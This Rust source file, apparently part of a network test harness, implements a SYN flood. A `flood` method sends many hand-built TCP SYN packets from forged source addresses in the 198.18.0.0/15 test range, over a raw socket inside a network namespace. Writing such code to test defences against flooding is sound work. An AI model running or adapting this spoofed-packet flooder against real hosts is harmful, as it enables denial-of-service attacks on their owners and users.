//! Many packets from forged addresses.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use anyhow::{Context, Result};
use socket2::{Domain, Protocol, Socket, Type};

use crate::clients::Client;

/// 198.18.0.0/15, for tests of networks (RFC 2544).
const FORGED: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const FORGED_BITS: u32 = 17;
/// `IPPROTO_RAW`: the header is the caller's.
const RAW: i32 = 255;

impl Client {
    /// Sends so many SYNs to an address, each from another forged one.
    ///
    /// # Errors
    /// When the kernel sends no raw packets.
    pub fn flood(&self, to: SocketAddrV4, syns: u32) -> Result<()> {
        self.namespace().run(|| {
            let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
                .context("cannot open a raw socket")?;
            socket.set_header_included_v4(true)?;
            let target = SocketAddr::from(SocketAddrV4::new(*to.ip(), 0)).into();
            for n in 0..syns {
                let from = Ipv4Addr::from(FORGED | (n & ((1 << FORGED_BITS) - 1)));
                let port = 1024 + u16::try_from(n >> FORGED_BITS).unwrap_or(u16::MAX - 1024);
                let packet = syn(SocketAddrV4::new(from, port), to);
                // A full queue is a flood's own affair.
                match socket.send_to(&packet, &target) {
                    Err(error) if error.raw_os_error() != Some(nix::errno::Errno::ENOBUFS as i32) => {
                        return Err(error).context("cannot send a forged packet");
                    }
                    _ => {}
                }
            }
            Ok(())
        })
    }
}

/// A SYN with its IPv4 header, whose checksum the kernel makes (raw(7)).
fn syn(from: SocketAddrV4, to: SocketAddrV4) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[..4].copy_from_slice(&[0x45, 0, 0, 40]);
    packet[6..10].copy_from_slice(&[0x40, 0, 64, 6]);
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    packet[20..22].copy_from_slice(&from.port().to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[27] = 1;
    packet[32..36].copy_from_slice(&[0x50, 2, 0x40, 0]);
    let words = packet[12..]
        .chunks(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let sum = !u16::try_from(sum).expect("it is folded");
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}
